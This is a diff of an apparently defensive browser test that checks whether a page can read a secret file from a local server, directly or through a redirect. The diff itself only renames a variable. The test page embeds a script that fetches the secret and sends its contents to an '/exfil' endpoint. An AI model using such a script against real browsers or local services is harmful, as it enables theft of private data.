@@ -266,9 +266,9 @@ test.skipIf(!hasBrowser).each(['it asks for', 'it is redirected to'])(
     const victim = await site({ '/secret.txt': plain(secret) })
     const pages: Record<string, string | Answered> = {}
     const own = await site(pages)
-    const wanted = `${victim.at('127.0.0.1')}/secret.txt`
-    pages['/to-secret'] = moved(wanted)
-    const asked = how === 'it asks for' ? wanted : '/to-secret'
+    const secretUrl = `${victim.at('127.0.0.1')}/secret.txt`
+    pages['/to-secret'] = moved(secretUrl)
+    const asked = how === 'it asks for' ? secretUrl : '/to-secret'
     pages['/'] = `<script>
       fetch('${asked}').then((answer) => answer.text()).then((text) => fetch('/exfil?' + encodeURIComponent(text)), () => fetch('/refused'))
     </script>`
